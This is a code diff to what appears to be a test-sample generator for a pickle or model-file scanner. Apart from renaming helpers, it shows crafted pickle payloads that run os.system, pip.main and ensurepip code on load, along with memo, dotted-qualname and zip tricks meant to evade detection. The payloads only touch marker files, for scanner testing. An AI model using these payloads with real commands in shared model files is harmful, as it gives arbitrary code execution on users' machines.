@@ -41,13 +41,13 @@ class Sample:
 
 # --- raw pickle pieces ---------------------------------------------------------------------------------
 
-def _u(s: str) -> bytes:
+def memo_str(s: str) -> bytes:
     """SHORT_BINUNICODE + MEMOIZE (protocol 4 style)."""
     b = s.encode()
     return b"\x8c" + bytes([len(b)]) + b + b"\x94"
 
 
-def _x(s: str) -> bytes:
+def binunicode(s: str) -> bytes:
     """BINUNICODE."""
     b = s.encode()
     return b"X" + struct.pack("<I", len(b)) + b
@@ -55,7 +55,7 @@ def _x(s: str) -> bytes:
 
 def _call(module: str, name: str, *args: str) -> bytes:
     """Protocol 2: `module.name(*args)` by GLOBAL + REDUCE; string arguments only."""
-    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(_x(a) for a in args) + b"tR."
+    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(binunicode(a) for a in args) + b"tR."
 
 
 def _touch(marker: Path) -> str:
@@ -113,27 +113,27 @@ def build_malicious(out: Path) -> list[Sample]:
         _torch_zip(_call("torch.utils.collect_env", "run", _touch(m("torch_collect_env_run")))), "torch",
         "torch.utils.collect_env.run")
     # pip.main(["config", "list", "--log", MARKER]): pip writes its log file.
-    pip_main = (b"\x80\x04" + _u("pip") + _u("main") + b"\x93]" + b"(" + _x("config") + _x("list") + _x("--log")
-                + _x(str(m("pip_main"))) + b"e\x85R.")
+    pip_main = (b"\x80\x04" + memo_str("pip") + memo_str("main") + b"\x93]" + b"(" + binunicode("config") + binunicode("list") + binunicode("--log")
+                + binunicode(str(m("pip_main"))) + b"e\x85R.")
     add("pip_main", "package installer entry point", "model.pkl", pip_main, "pickle", "pip.main")
     # ensurepip._run_pip(args, additional_paths) pastes additional_paths into the code it runs.
     inject = f"__import__('os').system({_touch(m('ensurepip_run_pip'))!r}) or []"
     add("ensurepip_run_pip", "package installer entry point", "model.pkl",
-        b"\x80\x02censurepip\n_run_pip\n(]" + _x("--version") + b"a" + _x(inject) + b"tR.",
+        b"\x80\x02censurepip\n_run_pip\n(]" + binunicode("--version") + b"a" + binunicode(inject) + b"tR.",
         "pickle", "ensurepip._run_pip")
     # Protocol 4 resolves a dotted name attribute by attribute: module "torch", name "serialization.os.system".
     add("dotted_qualname", "protocol-4 dotted qualname", "model.pkl",
-        b"\x80\x04" + _u("torch") + _u("serialization.os.system") + b"\x93" + _x(_touch(m("dotted_qualname")))
+        b"\x80\x04" + memo_str("torch") + memo_str("serialization.os.system") + b"\x93" + binunicode(_touch(m("dotted_qualname")))
         + b"\x85R.", "pickle", "torch.serialization.os.system")
     # getattr(__import__('os'), 'system')(cmd): only builtins named, the callable built at load time.
     add("getattr_chain", "protocol-4 dotted qualname", "model.pkl",
-        b"\x80\x04" + _u("builtins") + _u("getattr") + b"\x93" + _u("builtins") + _u("__import__") + b"\x93"
-        + _x("os") + b"\x85R" + _x("system") + b"\x86R" + _x(_touch(m("getattr_chain"))) + b"\x85R.",
+        b"\x80\x04" + memo_str("builtins") + memo_str("getattr") + b"\x93" + memo_str("builtins") + memo_str("__import__") + b"\x93"
+        + binunicode("os") + b"\x85R" + binunicode("system") + b"\x86R" + binunicode(_touch(m("getattr_chain"))) + b"\x85R.",
         "pickle", "builtins.getattr")
     # The module and name strings are memoized, popped off the stack, fetched back (GET) and DUPed.
     add("memo_stack_global", "memo / STACK_GLOBAL trick", "model.pkl",
-        b"\x80\x04" + _u("os") + b"0" + _u("system") + b"0" + b"h\x00h\x01\x93" + b"2" + b"0"
-        + _x(_touch(m("memo_stack_global"))) + b"\x85R.", "pickle", "os.system")
+        b"\x80\x04" + memo_str("os") + b"0" + memo_str("system") + b"0" + b"h\x00h\x01\x93" + b"2" + b"0"
+        + binunicode(_touch(m("memo_stack_global"))) + b"\x85R.", "pickle", "os.system")
     # Zip tricks on a torch.save archive whose data.pkl runs os.system.
     plain = bytearray(_torch_zip(os_system("zip_header_mismatch")))
     at = _local_headers(plain, b"archive/data.pkl")[0]
